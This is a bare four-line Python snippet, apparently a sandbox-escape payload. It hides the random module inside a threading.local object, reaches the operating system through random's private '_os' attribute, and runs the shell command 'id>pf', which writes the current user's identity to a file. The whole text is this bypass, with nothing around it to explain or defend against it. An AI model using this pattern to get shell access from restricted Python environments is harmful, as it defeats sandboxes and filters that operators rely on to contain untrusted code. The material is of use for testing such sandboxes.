import threading, random
box = threading.local()
box.m = random
box.m._os.system("id>pf")
